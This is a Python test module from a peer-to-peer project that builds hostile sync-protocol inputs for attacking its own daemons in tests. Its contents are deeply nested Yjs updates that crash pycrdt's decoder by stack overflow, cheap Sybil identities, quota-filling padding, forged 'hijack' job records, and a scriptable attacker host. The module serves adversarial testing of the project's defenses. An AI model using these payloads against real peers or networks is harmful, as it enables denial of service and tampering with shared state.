"""Hostile-peer kit for the replicated state: what an honest peer never sends.

Owns building hostile Yjs updates (nesting that overflows the decoder's stack, nested
shared types), signing them into envelopes, minting Sybil authors with valid histories
of any size, forged job, model and participation records, and an attacker that speaks
`/lattice/crdt-sync/2` from its own py-libp2p host (a hello, then whatever it likes, or
nothing at all). For tests and benchmarks, ours and users': nothing in `lattice` or
`latticed` imports it.

Typical use against a real daemon (`lattice.testing.daemons.DaemonProc`)::

    async with open_attacker() as attacker:
        peer = await attacker.connect(daemon_addr)
        session = await attacker.open_session(peer)
        await session.send_envelopes([nested_array_envelope(Identity.generate())])
        assert await session.wait_ended()
"""

from __future__ import annotations

import os
import secrets
from collections.abc import AsyncIterator, Iterable, Mapping
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import trio

from lattice.core.identity import Identity
from lattice.core.jobs import new_job_record, parse_train_spec
from lattice.core.state import KIND_DELTA, Set, StateLimits, StateStore, seal
from lattice.core.state.limits import MAX_AUTHOR_BYTES, MAX_VALUE_BYTES
from lattice.core.state.sync import PROTOCOL_ID
from lattice.net.streams import PeerError, Stream, recv_frame, recv_frame_or_eof, send_frame
from lattice.testing.daemons import DaemonProc

LOOPBACK = "/ip4/127.0.0.1/tcp/0"

# -- Yjs v1 update bytes (lib0 encoding), built by hand -----------------------------------


def varuint(n: int) -> bytes:
    """lib0 unsigned varint: 7 bits per byte, least significant group first."""
    out = bytearray()
    while True:
        byte, n = n & 0x7F, n >> 7
        if n:
            out.append(byte | 0x80)
        else:
            out.append(byte)
            return bytes(out)


def varstring(text: str) -> bytes:
    data = text.encode()
    return varuint(len(data)) + data


_ANY_ARRAY, _ANY_NULL = 117, 126
_INFO_PARENT_SUB = 0x20
_CONTENT_TYPE, _CONTENT_ANY = 7, 8
_TYPE_ARRAY = 0


def nested_array_update(depth: int, *, client: int = 1, root: str = "member",
                        key: str = "name") -> bytes:
    """One map entry whose value is ``depth`` nested arrays (a lib0 "any"): pycrdt's
    decoder recurses once per level and overflows its stack (SIGSEGV) at ~30,000."""
    value = bytes([_ANY_ARRAY, 1]) * depth + bytes([_ANY_NULL])
    item = (bytes([_INFO_PARENT_SUB | _CONTENT_ANY]) + varuint(1) + varstring(root)
            + varstring(key) + varuint(1) + value)
    return varuint(1) + varuint(1) + varuint(client) + varuint(0) + item + varuint(0)


def nested_type_update(depth: int, *, client: int = 1, root: str = "member",
                       key: str = "name") -> bytes:
    """``depth`` shared arrays, each the only element of the one before (the first is a
    map entry under ``root``/``key``): nesting through items instead of one value."""
    structs = [bytes([_INFO_PARENT_SUB | _CONTENT_TYPE]) + varuint(1) + varstring(root)
               + varstring(key) + varuint(_TYPE_ARRAY)]
    for clock in range(depth - 1):  # parent given by id: (client, clock) of the one before
        structs.append(bytes([_CONTENT_TYPE]) + varuint(0) + varuint(client) + varuint(clock)
                       + varuint(_TYPE_ARRAY))
    return (varuint(1) + varuint(len(structs)) + varuint(client) + varuint(0)
            + b"".join(structs) + varuint(0))


def raw_envelope(identity: Identity, update: bytes, *, seq: int = 1, prev: bytes = b"",
                 kind: str = KIND_DELTA) -> bytes:
    """``update`` signed by ``identity`` as its envelope ``seq`` (no check of the update)."""
    return seal(identity, seq, kind, update, prev).raw


def nested_array_envelope(identity: Identity, depth: int = 30_000) -> bytes:
    """The envelope that crashed daemons (issue 11): valid signature, under 256 KiB."""
    return raw_envelope(identity, nested_array_update(depth))


# -- valid authors with chosen content ------------------------------------------------------


class Author:
    """A (possibly Sybil) author writing valid envelopes through a private store, so
    every envelope it makes is one an honest peer accepts, whatever it says."""

    def __init__(self, identity: Identity | None = None, *, snapshots: bool = True) -> None:
        self.identity = identity or Identity.generate()
        self.peer_id = self.identity.peer_id
        limits = StateLimits() if snapshots else StateLimits(snapshot_min_bytes=MAX_AUTHOR_BYTES)
        self.store = StateStore(self.identity, limits=limits)

    def write(self, changes: Iterable[Set], now: float = 0.0) -> bytes:
        env = self.store.apply_local(list(changes), now)
        assert env is not None, "the changes left the content as it was"
        return env.raw

    def member(self, now: float, name: str = "sybil") -> bytes:
        """A member record with a heartbeat at ``now``: shown alive for a minute."""
        return self.write([Set("member/peer_id", self.peer_id), Set("member/name", name),
                           Set("member/heartbeat", now)], now)

    def bulk(self, total_bytes: int, now: float = 0.0) -> list[bytes]:
        """Deltas of padding records until the author holds about ``total_bytes``
        (at most the per-author quota, so each one is accepted on its own)."""
        out: list[bytes] = []
        held = 0
        pad = MAX_VALUE_BYTES - 1024
        while held + pad + 2048 < min(total_bytes, MAX_AUTHOR_BYTES):
            raw = self.write([Set(f"counters/pad-{len(out)}", 1),
                              Set(f"models/pad-{len(out)}",
                                  {"producer": self.peer_id, "pad": os.urandom(pad)})], now)
            out.append(raw)
            held += len(raw)
        return out


def sybils(n: int, *, snapshots: bool = True) -> list[Author]:
    """``n`` fresh authors (new Ed25519 keys cost nothing: the Sybil's advantage)."""
    return [Author(snapshots=snapshots) for _ in range(n)]


def job_spec(task: str = "digits-softmax", **fields: Any) -> dict[str, Any]:
    return parse_train_spec({"task": task, **fields}).to_dict()


def job_records(author: Author, n: int, now: float, **spec: Any) -> tuple[list[str], bytes]:
    """``n`` valid job records (ids commit to ``author``) in one envelope."""
    changes, ids = [], []
    parsed = parse_train_spec({"task": "digits-softmax", "min_peers": 64, **spec})
    for _ in range(n):
        job_id, record = new_job_record(parsed, author.peer_id, secrets.token_hex(16), now)
        changes.append(Set(f"jobs/{job_id}", record))
        ids.append(job_id)
    return ids, author.write(changes, now)


def hijack_record(author: Author, victim_record: Mapping[str, Any], *, state: str = "submitted",
                  roster: list[str] | None = None) -> dict[str, Any]:
    """The victim's job record rewritten as ``author``'s own: the same id, spec and
    nonce, the attacker as submitter (the schema lets any author hold any job id)."""
    forged = {**victim_record, "submitter": author.peer_id, "state": state}
    if roster is not None:
        forged["roster"] = sorted(roster)
    return forged


# -- real daemons to attack ----------------------------------------------------------------------


class Fleet:
    """Real daemons (`lattice.testing.daemons.DaemonProc`) started for one attack test,
    every one killed when the block ends (``with Fleet(tmp_path) as fleet``)."""

    def __init__(self, base: Path) -> None:
        self.base = base
        self.daemons: list[DaemonProc] = []

    def start(self, *extra: str, env: Mapping[str, str] | None = None,
              state_dir: Path | None = None) -> DaemonProc:
        """Start a daemon (``env``: LATTICE_* settings) and wait until it runs."""
        d = DaemonProc(state_dir or self.base / f"d{len(self.daemons)}", *extra,
                       env=dict(env or {}))
        self.daemons.append(d)
        d.start()
        d.wait_running(60)
        return d

    def __enter__(self) -> Fleet:
        return self

    def __exit__(self, *exc: object) -> None:
        for d in self.daemons:
            if d.proc is not None and d.proc.poll() is None:
                d.proc.kill()
                d.proc.wait()


# -- an attacker on the wire ------------------------------------------------------------------


class RawSession:
    """One `/lattice/crdt-sync/2` stream the attacker drives by hand."""

    def __init__(self, stream: Stream, sid: str, hello: dict[str, Any] | None) -> None:
        self.stream = stream
        self.sid = sid
        self.hello = hello
        """The victim's hello (None for a session the victim opened)."""

    async def send(self, message: Any) -> None:
        await send_frame(self.stream, message)

    async def send_raw(self, data: bytes) -> None:
        await self.stream.write(data)

    async def send_envelopes(self, items: list[bytes]) -> None:
        await self.send({"t": "envelopes", "sid": self.sid, "items": list(items)})

    async def recv(self) -> Any:
        return await recv_frame(self.stream, max_bytes=2 << 20)

    async def sync_point(self) -> dict[str, Any]:
        """Ask for the victim's summary and wait for it: the victim handles a session's
        messages in order, so everything sent before has been handled. Returns the
        summary ``{author: [seq, tip]}``."""
        await self.send({"t": "summary", "sid": self.sid, "summary": {}, "reply": False})
        while True:
            msg = await self.recv()
            if isinstance(msg, dict) and msg.get("t") == "summary":
                return msg["summary"]

    async def wait_ended(self, timeout: float = 30.0) -> bool:
        """Drain what the victim sends until it closes or resets the session; raises
        `trio.TooSlowError` if it is still open after ``timeout`` seconds."""
        with trio.fail_after(timeout):
            try:
                while await recv_frame_or_eof(self.stream, max_bytes=2 << 20) is not None:
                    pass
            except PeerError:
                pass
        return True

    async def close(self) -> None:
        try:
            await self.stream.close()
        except PeerError:
            pass


def hello(sid: str, summary: Mapping[str, Any] | None = None) -> dict[str, Any]:
    return {"t": "hello", "sid": sid, "v": 2, "root": [0, bytes(8)],
            "summary": dict(summary or {}), "banned": []}


class Attacker:
    """A py-libp2p host with its own identity that connects to daemons and speaks the
    sync protocol however a test tells it to (see `open_attacker`)."""

    def __init__(self, node: Any) -> None:
        self.node = node
        self.peer_id: str = node.peer_id
        self.inbound: trio.MemoryReceiveChannel[RawSession]
        self._inbound_send, self.inbound = trio.open_memory_channel[RawSession](16)

    async def connect(self, addr: str) -> str:
        """Connect to a daemon's multiaddr (ending in /p2p/<id>); returns its peer id."""
        return await self.node.connect(addr)

    async def open_session(self, peer_id: str, *, sid: str | None = None,
                           summary: Mapping[str, Any] | None = None) -> RawSession:
        """Open a session and exchange hellos, as an honest dialer would."""
        sid = sid or secrets.token_hex(8)
        stream = await self.node.open_stream(peer_id, PROTOCOL_ID, route=False)
        await send_frame(stream, hello(sid, summary))
        answer = await recv_frame(stream, max_bytes=2 << 20)
        return RawSession(stream, sid, answer)

    def accept_sessions(self) -> None:
        """Answer sessions the daemon opens with a hello, then hold them silently: each
        one is put on `inbound` and lives until the daemon ends it."""
        async def handler(stream: Stream) -> None:
            first = await recv_frame(stream, max_bytes=2 << 20)
            sid = first.get("sid", "x") if isinstance(first, dict) else "x"
            await send_frame(stream, hello(sid))
            session = RawSession(stream, sid, None)
            await self._inbound_send.send(session)
            await session.wait_ended(timeout=3600)

        self.node.set_stream_handler(PROTOCOL_ID, handler)


@asynccontextmanager
async def open_attacker(identity: Identity | None = None) -> AsyncIterator[Attacker]:
    """A running attacker host on loopback."""
    from lattice.net.host import open_libp2p_node  # libp2p: only when an attacker runs

    async with open_libp2p_node(identity or Identity.generate(), [LOOPBACK]) as node:
        yield Attacker(node)


__all__ = [
    "Attacker", "Author", "Fleet", "RawSession", "hello", "hijack_record", "job_records", "job_spec",
    "nested_array_envelope", "nested_array_update", "nested_type_update", "open_attacker",
    "raw_envelope", "sybils", "varstring", "varuint",
]
